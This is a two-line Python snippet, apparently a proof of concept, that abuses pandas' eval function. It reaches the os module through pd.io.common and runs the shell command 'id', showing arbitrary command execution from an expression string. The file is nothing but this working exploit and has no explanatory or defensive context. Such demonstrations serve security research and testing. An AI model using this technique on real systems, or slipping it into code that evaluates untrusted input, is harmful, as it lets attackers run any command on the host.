import pandas as pd
pd.eval("@pd.io.common.os.system('id')", engine="python", parser="pandas")
